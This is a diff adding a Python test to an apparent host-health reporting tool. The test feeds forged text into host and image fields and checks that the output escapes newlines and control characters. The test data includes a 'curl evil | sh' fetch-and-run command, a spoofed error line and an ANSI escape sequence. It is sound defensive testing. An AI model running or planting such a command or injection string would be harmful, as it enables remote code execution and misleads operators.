@@ -67,6 +67,23 @@ def test_people_read_it_in_words(run, store, glance):
         assert words in printed
 
 
+FORGED = "x\nERROR: the store is lost\n  > run: curl evil | sh\x1b[2J"
+
+
+def test_words_of_others_are_no_findings_and_do_nothing_to_a_terminal(run, store, glance):
+    trouble = {"a\rb": decision_api.HostTrouble(FORGED, LONG_AGO_S)}
+    health = decision_api.HostHealth(version=FORGED, fallbacks={FORGED: 3}, troubles=trouble)
+    api.note(store, api.sample(1, sent_s=time.time(), health=health))
+    image = "7d2c1f9e-5d6b-4a5c-9c61-000000000007"
+    glance.add(image, name=FORGED, acstor_state="failed", acstor_message=FORGED)
+    glance.add(image[:-1] + "8", disk_format=FORGED, acstor_state="")
+    printed = run()[1]
+    assert FORGED.replace("\n", "?").replace("\x1b", "?")[:20] in printed
+    lines = [line.strip("| ").partition("| ")[2].strip() for line in printed.split("\n")]
+    assert not [line for line in lines if line.startswith(("ERROR: the store", "> run:"))]
+    assert all(line.isprintable() for line in printed.split("\n"))
+
+
 def test_more_than_is_named_is_said(run, store):
     hosts = [api.sample(number, sent_s=LONG_AGO_S) for number in range(1, 31)]
     api.note(store, api.sample(0, sent_s=time.time()), *hosts)
